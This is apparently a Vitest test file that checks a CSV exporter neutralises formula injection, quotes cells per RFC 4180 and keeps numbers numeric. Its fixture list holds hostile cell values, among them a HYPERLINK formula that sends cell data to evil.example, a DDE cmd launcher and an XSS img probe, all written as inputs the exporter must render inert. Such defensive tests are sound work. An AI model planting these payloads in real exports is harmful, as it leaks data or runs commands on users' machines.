// toCsv on hostile payloads: every text cell that could start a spreadsheet formula gets a leading quote (OWASP CSV
// injection), RFC 4180 quoting keeps commas, quotes and line breaks in their cell, and numbers stay numbers.
import { describe, expect, it } from 'vitest';
import { csvCell, CSV_BOM, neutraliseFormula, toCsv } from '../../../src/data/exports/csv';
import { parseCsv } from './read-csv';

const HOSTILE: [string, string][] = [
  ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t=1"],
  ['\r=1', "'\r=1"],
  ['<img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)>'],
  ['"quoted, text"', '"quoted, text"'],
  ['line one\nline two', 'line one\nline two'],
  ['-', "'-"],
  ['-1e5', "'-1e5"],
  ['- 1.13', "'- 1.13"],
  ['On or near =Gallowtree Gate', 'On or near =Gallowtree Gate'],
];

describe('toCsv', () => {
  it('starts with a BOM and ends every record with CRLF', () => {
    expect(toCsv(['a', 'b'], [[1, 'x']])).toBe(`${CSV_BOM}a,b\r\n1,x\r\n`);
    expect(toCsv(['a'], [])).toBe(`${CSV_BOM}a\r\n`);
  });

  it.each(HOSTILE)('writes %j so a spreadsheet reads it as the text %j', (payload, shown) => {
    const csv = toCsv(['note', 'n'], [[payload, 1]]);
    const [header, row] = parseCsv(csv.slice(1));
    expect(header).toEqual(['note', 'n']);
    expect(row).toEqual([shown, '1']);
  });

  it('quotes exactly the cells that hold a comma, quote, CR or LF, doubling quotes', () => {
    expect(csvCell('"quoted, text"')).toBe('"""quoted, text"""');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvCell('plain')).toBe('plain');
  });

  it('keeps numbers as numbers: JS numbers and strings that are exactly a decimal', () => {
    expect(toCsv(['lon', 'lat', 'text'], [[-1.13, 52.63, '-1.13']]).split('\r\n')[1]).toBe('-1.13,52.63,-1.13');
    expect(['-0', '42', '-17', '0.5'].map(neutraliseFormula)).toEqual(['-0', '42', '-17', '0.5']);
    expect([csvCell(null), csvCell(Number.NaN), csvCell(Number.POSITIVE_INFINITY), csvCell(-0)]).toEqual([
      '',
      '',
      '',
      '0',
    ]);
  });

  it('neutralises the header too', () => {
    expect(toCsv(['=cmd'], [])).toBe(`${CSV_BOM}'=cmd\r\n`);
  });
});
